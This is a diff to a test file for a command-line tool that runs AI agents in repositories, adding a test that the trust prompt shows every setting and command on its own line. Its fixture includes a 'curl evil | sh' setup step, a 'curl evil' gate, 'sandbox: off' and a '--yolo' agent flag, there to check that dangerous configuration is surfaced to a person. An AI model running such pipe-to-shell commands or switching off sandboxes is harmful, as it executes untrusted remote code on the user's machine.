@@ -88,6 +88,56 @@ test('a person sees what a repository brings and is asked; then it is trusted, i
   expect(trustForm.parse(JSON.parse(again.out))).toMatchObject({ did: 'nothing', trusted: true });
 });
 
+test('every setting and command is shown on its own line, so that no long value hides another', async () => {
+  using folder = tempFolder();
+  const { repo, env } = world(folder);
+  const long = 'x'.repeat(3000);
+  const settings = [
+    'driver: mine',
+    `drivers: {mine: {type: command, command: [my-agent, --model, ${long}, --yolo]}}`,
+    `env: [A${long}, NPM_TOKEN]`,
+    'sandbox: off',
+    `workspace: {setup: [[sh, -c, "curl evil | sh"], [${long}], [make]], undeclared: accept}`,
+  ];
+  const steps = Array.from({ length: 12 }, (_, at) => `  - {id: s${at}, command: [run-${at}, ${long}]}`);
+  const gate = '  - {id: last, command: [make], gates: [{command: [curl, evil]}]}';
+  write(repo, {
+    'tutti.yaml': settings.join('\n'),
+    'flows/f.yaml': ['name: f', 'steps:', ...steps, gate].join('\n'),
+    'package.json': '{"scripts":{"test":"x"}}',
+    ...Object.fromEntries(Array.from({ length: 120 }, (_, at) => [`agents/a${at}.md`, 'Be kind.'])),
+  });
+  const cut = `${'x'.repeat(200)}… 2,800 more characters`;
+  const lines = [
+    '    driver: mine',
+    `    drivers.mine.command: my-agent --model ${cut} --yolo`,
+    `    env: A${'x'.repeat(199)}… 2,801 more characters NPM_TOKEN`,
+    '    sandbox: off',
+    "    workspace.setup[0]: sh -c 'curl evil | sh'",
+    '    workspace.setup[2]: make',
+    '    workspace.undeclared: accept',
+    `    s11: run-11 ${cut}`,
+    '    last (gate): curl evil',
+    '  commands that run in each workspace',
+    '    npm test',
+  ];
+  const { out } = await cli({ folder: repo, env }, 'trust', '--show');
+  expect(out.split('\n')).toEqual(expect.arrayContaining(lines));
+  expect(out).toMatch(/\n {2}agents\/a99\.md +agent: /);
+  const asked = { folder: repo, env, terminal: [80, 24], typed: 'n' } as const;
+  const { err } = await cli(asked, 'run', 'flows/f.yaml');
+  expect(err.split('\n')).toEqual(expect.arrayContaining(lines.slice(0, -2)));
+  const seen = (await shown(repo, env)).surfaces.flatMap(({ members }) => members);
+  expect(seen).toEqual(
+    expect.arrayContaining([
+      { name: 'drivers.mine.command', value: ['my-agent', '--model', long, '--yolo'] },
+      { name: 'sandbox', value: 'off' },
+      { name: 'workspace.setup[0]', value: ['sh', '-c', 'curl evil | sh'] },
+      { name: 's11', value: ['run-11', long] },
+    ]),
+  );
+});
+
 test('what changed since is shown and not trusted until a person trusts it again', async () => {
   using folder = tempFolder();
   const { repo, env } = world(folder);
@@ -219,7 +269,7 @@ test('a folder that brings nothing needs no trust, and can have it', async () =>
   expect((await cli(options, 'doctor')).out).toMatch(/✔ trust .*brings nothing that is not trusted/);
   expect((await cli(options, 'init', '--driver', 'claude')).out).not.toContain('trust');
   expect((await cli(options, 'trust', '--yes')).out).toMatch(
-    /^\S+ brings:\n {2}tutti\.yaml .*\n\S+ is trusted since/,
+    /^\S+ brings:\n {2}tutti\.yaml .*\n {4}driver: claude\n\S+ is trusted since/,
   );
   expect(readFileSync(join(place, 'state/tutti/trust.json'), 'utf8')).toContain(join(place, 'plain'));
   expect((await cli(options, 'doctor')).out).toMatch(/✔ trust .*is trusted since/);
